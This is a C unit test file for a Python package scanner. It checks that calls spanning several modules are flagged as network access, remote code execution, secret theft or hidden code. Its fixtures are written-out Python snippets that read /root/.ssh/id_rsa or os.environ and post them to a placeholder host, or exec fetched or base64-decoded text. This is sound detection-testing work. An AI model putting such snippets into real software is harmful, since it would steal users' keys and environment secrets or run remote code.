/* What one file of an artifact does with what another has. The payloads do nothing; the names of hosts
 * lead nowhere. */
#include "tests/ch_test.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#include "customhouse/limits.h"
#include "scanner/source/source.h"

enum { FILES = 5 };

struct one {
    const char *path;
    const char *text;
    enum ch_code_place place; /* NONE: import */
};

struct row {
    const char *finding; /* "NAME PATH"; NULL: nothing that holds */
    struct one files[FILES];
};

static void see(struct ch_source *s, const struct one *one)
{
    enum ch_code_place place = one->place == CH_PLACE_NONE ? CH_PLACE_IMPORT : one->place;
    ch_source_see(s, ch_str_of(one->path), place, ch_str_of(one->text));
}

struct run {
    const struct one *files;
    bool turned; /* the last one first */
};

/* Findings of high severity as "NAME PATH\n". */
static void look(const struct run *run, struct ch_buf *ret)
{
    static const struct ch_sha256 sha256 = {{1}};
    struct ch_err err;
    size_t count = 0;
    int fd = memfd_create("answer", MFD_CLOEXEC);
    assert_true(fd >= 0);
    struct ch_scan_writer *w = ch_scan_writer_new(fd, 1 << 20);
    struct ch_source *s = ch_source_new(w);
    while (count < FILES && run->files[count].path != NULL) {
        count++;
    }
    for (size_t i = 0; i < count; i++) {
        see(s, &run->files[run->turned ? count - 1 - i : i]);
    }
    ch_source_end(s);
    ch_source_free(s);
    assert_ch_ok(&err, ch_scan_write_end(w, &sha256, 1, &err));
    ch_scan_writer_free(w);
    size_t size = (size_t)lseek(fd, 0, SEEK_END);
    char *stream = ch_alloc(size + 1);
    assert_int_equal(pread(fd, stream, size, 0), size);
    struct ch_scan_reader r;
    struct ch_scan_record rec;
    ch_scan_reader_init(&r, (struct ch_str){stream, size});
    while (ch_scan_read(&r, &rec, &err) == CH_OK) {
        const struct ch_finding_row *f =
            rec.type == CH_REC_FINDING ? ch_finding_row((uint32_t)rec.u.finding.code) : NULL;
        if (f != NULL && strcmp(ch_severity_name(f->severity), "high") == 0) {
            ch_buf_printf(ret, "%s %.*s\n", f->name, CH_STR_ARG(rec.u.finding.member));
        }
    }
    free(stream);
    close(fd);
}

#define HOST "'http://example.org/'"
#define NET "import requests\ndef f():\n    requests.get(" HOST ")\n"
#define GET "import requests\ndef get():\n    return requests.get(" HOST ").text\n"
#define KEY "def key():\n    return open('/root/.ssh/id_rsa').read()\n"
#define SEND "import requests\ndef send(d):\n    requests.post(" HOST ", data=d)\n"
#define RUN "def run(t):\n    exec(t)\n"
#define OF_CLASS                                                                                   \
    "import requests\nclass C:\n    def m(self):\n        requests.get(" HOST ")\n"

static const struct row rows[] = {
    /* a function in one module, its call in another */
    {"import-network pkg/b.py", {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from .a import f\nf()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from pkg.a import f as g\ng()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "import pkg.a as x\nx.f()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "import pkg.a\npkg.a.f()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from . import a\na.f()\n", 0}}},
    {"import-network pkg/b.py", {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from .a import *\nf()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0},
      {"pkg/b.py", "from .a import ( # x\n    g, # y\n    f as h,\n)\nclass C:\n    x = h()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from .a import f\n@f\ndef g(): pass\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "def g():\n    from .a import f\n    f()\ng()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0},
      {"pkg/b.py", "import importlib\nimportlib.import_module('pkg.a').f()\n", 0}}},
    {"import-network pkg/sub/b.py",
     {{"pkg/a.py", NET, 0}, {"pkg/sub/b.py", "from ..a import f\nf()\n", 0}}},
    {"import-network src/pkg/b.py",
     {{"src/pkg/a.py", NET, 0}, {"src/pkg/b.py", "from pkg.a import f\nf()\n", 0}}},
    {"import-network b.py", {{"a.py", NET, 0}, {"b.py", "import a\na.f()\n", 0}}},
    {"install-network setup.py",
     {{"src/pkg/a.py", NET, 0}, {"setup.py", "from pkg.a import f\nf()\n", CH_PLACE_INSTALL}}},
    {"start-code x.pth",
     {{"pkg/a.py", NET, 0}, {"x.pth", "import pkg.a; pkg.a.f()\n", CH_PLACE_START}}},
    {NULL, {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from .a import f\ndef g():\n    f()\n", 0}}},
    {NULL,
     {{"pkg/a.py", NET, 0},
      {"pkg/b.py", "from .a import f\nif __name__ == '__main__':\n    f()\n", 0}}},
    {NULL,
     {{"pkg/a.py", NET "def g(): pass\n", 0}, {"pkg/b.py", "from .a import g\ng()\n", 0}}},
    {NULL,
     {{"pkg/a.py", NET, 0},
      {"pkg/b.py", "from .c import f\nf()\n", 0},
      {"pkg/c.py", "def f(): pass\n", 0}}},
    {NULL,
     {{"pkg/a.py", NET, 0}, {"pkg/b.py", "from .a import f\ndef f(): pass\nf()\n", 0}}},
    {NULL, {{"pkg/a.py", NET, CH_PLACE_TEST}, {"pkg/b.py", "from .a import f\nf()\n", 0}}},
    /* by way of others */
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0},
      {"pkg/__init__.py", "from .a import f\n", 0},
      {"pkg/b.py", "from pkg import f\nf()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", NET, 0},
      {"pkg/__init__.py", "from .a import *\n", 0},
      {"pkg/b.py", "import pkg\npkg.f()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/__init__.py", NET, 0}, {"pkg/b.py", "from . import f\nf()\n", 0}}},
    {"import-network pkg/d.py",
     {{"pkg/d.py", "from .c import h\nh()\n", 0},
      {"pkg/c.py", "from .b import g\ndef h():\n    g()\n", 0},
      {"pkg/b.py", "from . import a\ndef k():\n    a.f()\ndef g():\n    k()\n", 0},
      {"pkg/a.py", NET, 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", "from requests import get as g\n", 0},
      {"pkg/b.py", "from .a import g\ng(" HOST ")\n", 0}}},
    /* with an address that is given */
    {"import-network pkg/b.py",
     {{"pkg/a.py", "import requests\ndef f(u):\n    requests.get(u)\n", 0},
      {"pkg/b.py", "from .a import f\nf(" HOST ")\n", 0}}},
    /* classes */
    {"import-network pkg/b.py",
     {{"pkg/a.py", "import requests\nclass C:\n    def __init__(self):\n        requests.get(" HOST ")\n", 0},
      {"pkg/b.py", "from .a import C\nC()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", OF_CLASS, 0}, {"pkg/b.py", "from .a import C\nc = C()\nc.m()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", OF_CLASS "c = C()\n", 0}, {"pkg/b.py", "from .a import c\nc.m()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", OF_CLASS, 0},
      {"pkg/c.py", "from .a import C\n\nc = C()\n", 0},
      {"pkg/b.py", "from .c import c\nc.m()\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", OF_CLASS, 0},
      {"pkg/c.py", "from .a import C\nclass D(C):\n    pass\n", 0},
      {"pkg/b.py", "from .c import D\nD().m()\n", 0}}},
    {NULL,
     {{"pkg/a.py", OF_CLASS, 0},
      {"pkg/c.py", "from .a import C\n\nc = C()\n", 0},
      {"pkg/b.py", "from .c import c\nc.n()\n", 0}}},
    {NULL, {{"pkg/a.py", OF_CLASS, 0}, {"pkg/b.py", "from .a import C\nc = C()\nc.n()\n", 0}}},
    /* run under another name */
    {"import-network pkg/b.py",
     {{"pkg/a.py", "import requests\nif __name__ == '__main__':\n    requests.get(" HOST ")\n", 0},
      {"pkg/b.py", "import runpy\nrunpy.run_module('pkg.a', run_name='__main__')\n", 0}}},
    {"import-network pkg/b.py",
     {{"pkg/a.py", "import requests\nif __name__ == '__main__':\n    requests.get(" HOST ")\n", 0},
      {"pkg/b.py", "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'a.py'), "
                   "run_name='__main__')\n", 0}}},
    {NULL,
     {{"pkg/a.py", "import requests\nif __name__ == '__main__':\n    requests.get(" HOST ")\n", 0},
      {"pkg/b.py", "import runpy\nrunpy.run_module('pkg.a')\n", 0}}},
    /* what is given back */
    {"remote-code pkg/b.py",
     {{"pkg/a.py", GET, 0}, {"pkg/b.py", "from . import a\nexec(a.get())\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", GET, 0},
      {"pkg/b.py", "from .a import get\ndef g():\n    x = get()\n    y = x.strip() + '\\n'\n"
                   "    exec(compile(y, 'a', 'exec'))\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", GET, 0},
      {"pkg/b.py", "import os\nfrom .a import get\ndef g():\n    os.system(f'{X} {get()}')\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", GET, 0},
      {"pkg/c.py", "from .a import get\ndef two():\n    x = get()\n    return x\n", 0},
      {"pkg/b.py", "from .c import two\nexec(two())\n", 0}}},
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", KEY, 0},
      {"pkg/b.py", "import requests\nfrom .a import key\ndef g():\n"
                   "    requests.post(" HOST ", data=key())\n", 0}}},
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", KEY, 0},
      {"pkg/b.py", "import requests\nfrom .a import key\ndef g():\n    x = key()\n"
                   "    requests.post(" HOST ", json={'a': f'{x}'})\n", 0}}},
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", "KEY = '/root/.ssh/id_rsa'\n", 0},
      {"pkg/b.py", "import requests\nfrom . import a\ndef g():\n"
                   "    requests.post(" HOST ", data=open(a.KEY).read())\n", 0}}},
    {"environment-theft pkg/b.py",
     {{"pkg/a.py", "import os\ndef f():\n    return dict(os.environ)\n", 0},
      {"pkg/b.py", "import requests\nfrom .a import f\ndef g():\n"
                   "    requests.post(" HOST ", json=f())\n", 0}}},
    {"hidden-code pkg/b.py",
     {{"pkg/a.py", "import base64\ndef f(t):\n    return base64.b64decode(t)\n", 0},
      {"pkg/b.py", "from .a import f\nx = f('eA==')\ny = x\nexec(y)\n", 0}}},
    {NULL,
     {{"pkg/a.py", KEY, 0},
      {"pkg/b.py", "import requests\nfrom .a import key\ndef g():\n    key()\n"
                   "    requests.post(" HOST ", data=1)\n", 0}}},
    {NULL,
     {{"pkg/a.py", GET, 0},
      {"pkg/b.py", "from . import a\ndef g():\n    a.get()\n    exec(X)\n", 0}}},
    /* what is given */
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", SEND, 0},
      {"pkg/b.py", "from .a import send\ndef g():\n    send(open('/root/.ssh/id_rsa').read())\n", 0}}},
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", SEND, 0},
      {"pkg/c.py", KEY, 0},
      {"pkg/b.py", "from .a import send\nfrom .c import key\ndef g():\n    send(key())\n", 0}}},
    {"secret-theft pkg/b.py",
     {{"pkg/a.py", SEND, 0},
      {"pkg/c.py", "from .a import send\ndef two(x):\n    send(x)\n", 0},
      {"pkg/b.py", "from .c import two\ndef g():\n    two(open('/root/.ssh/id_rsa').read())\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", RUN, 0},
      {"pkg/b.py", "import requests\nfrom .a import run\ndef g():\n"
                   "    run(requests.get(" HOST ").text)\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", RUN, 0},
      {"pkg/c.py", GET, 0},
      {"pkg/b.py", "from .a import run\nfrom .c import get\ndef g():\n    run(get())\n", 0}}},
    {"remote-code pkg/b.py",
     {{"pkg/a.py", GET, 0},
      {"pkg/b.py", "from .a import get\ndef run(t):\n    exec(t)\ndef g():\n    run(get())\n", 0}}},
    {NULL,
     {{"pkg/a.py", SEND, 0},
      {"pkg/b.py", "from .a import send\ndef g():\n    send(open('data.csv').read())\n", 0}}},
};

static void sees_what_others_have(void **state)
{
    (void)state;
    size_t failures = 0;
    for (size_t i = 0; i < 2 * CH_ARRAY_LEN(rows); i++) {
        const struct row *row = &rows[i / 2];
        struct run run = {.files = row->files, .turned = i % 2 == 1};
        struct ch_buf out;
        ch_buf_init(&out, 1 << 16);
        look(&run, &out);
        ch_buf_putc(&out, '\0');
        bool good = row->finding != NULL ? strstr(out.ptr, row->finding) != NULL : out.ptr[0] == '\0';
        if (!good) {
            print_error("row %zu%s: expected %s, got \"%s\" of %s:\n%s\n", i / 2,
                        run.turned ? " turned" : "",
                        row->finding != NULL ? row->finding : "nothing", out.ptr,
                        row->files[1].path, row->files[1].text);
            failures++;
        }
        ch_buf_done(&out);
    }
    assert_int_equal(failures, 0);
}

static void expect(const struct run *run, const char *expected)
{
    struct ch_buf out;
    ch_buf_init(&out, 1 << 16);
    look(run, &out);
    assert_str_eq(ch_buf_str(&out), expected);
    ch_buf_done(&out);
}

/* A finding is told once, and what a file does by itself is not said to come from another. */
static void tells_once(void **state)
{
    (void)state;
    static const struct one files[FILES] = {
        {"pkg/a.py", NET, 0},
        {"pkg/b.py", "from .a import f\nimport base64\nexec(base64.b64decode('eA=='))\nf()\nf()\n", 0},
        {"pkg/c.py", "import requests\ndef g():\n    requests.get(" HOST ")\ng()\n", 0}};
    expect(&(struct run){.files = files},
           "hidden-code pkg/b.py\nimport-network pkg/c.py\nimport-network pkg/b.py\n");
}

/* Modules in a ring end. */
static void ends_in_a_ring(void **state)
{
    (void)state;
    static const struct one files[FILES] = {
        {"pkg/a.py", "from .b import *\nfrom .c import f\n" NET, 0},
        {"pkg/b.py", "from .a import *\nfrom .c import f as f\n", 0},
        {"pkg/c.py", "from .a import *\nfrom .b import f\nf()\n", 0}};
    expect(&(struct run){.files = files}, "import-network pkg/c.py\n");
}

/* Names and calls without end: no more work than is worth it, and no silence. */
static void ends_at_its_limits(void **state)
{
    (void)state;
    enum { NAMES = 3000 };
    struct ch_buf net;
    struct ch_buf all;
    ch_buf_init(&net, 1 << 22);
    ch_buf_init(&all, 1 << 22);
    ch_buf_puts(&net, CH_STR("import requests\n"));
    for (int i = 0; i < NAMES; i++) {
        ch_buf_printf(&net, "def f%d():\n    requests.get(" HOST ")\n", i);
    }
    ch_buf_putc(&net, '\0');
    for (int i = 0; i < NAMES; i++) {
        ch_buf_printf(&all, "from .m%d import *\nimport pkg.m%d\n", i, i);
    }
    ch_buf_putc(&all, '\0');
    struct one files[FILES] = {{"pkg/m1.py", net.ptr, 0},
                               {"pkg/m2.py", net.ptr, 0},
                               {"pkg/b.py", all.ptr, 0},
                               {"pkg/c.py", "from .b import *\nf7()\n", 0}};
    expect(&(struct run){.files = files}, "import-network pkg/c.py\n");
    ch_buf_clear(&net);
    ch_buf_puts(&net, CH_STR("import requests\nclass C:\n"));
    for (int i = 0; i < NAMES; i++) {
        ch_buf_printf(&net, "    def m%d(self): pass\n", i);
    }
    for (int i = 0; i < NAMES; i++) {
        ch_buf_printf(&net, "c%d = C\n", i);
    }
    ch_buf_putc(&net, '\0');
    struct one many[FILES] = {{"pkg/a.py", net.ptr, 0}};
    expect(&(struct run){.files = many}, "limit \n");
    ch_buf_done(&net);
    ch_buf_done(&all);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(sees_what_others_have),  cmocka_unit_test(tells_once),
        cmocka_unit_test(ends_in_a_ring),         cmocka_unit_test(ends_at_its_limits),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
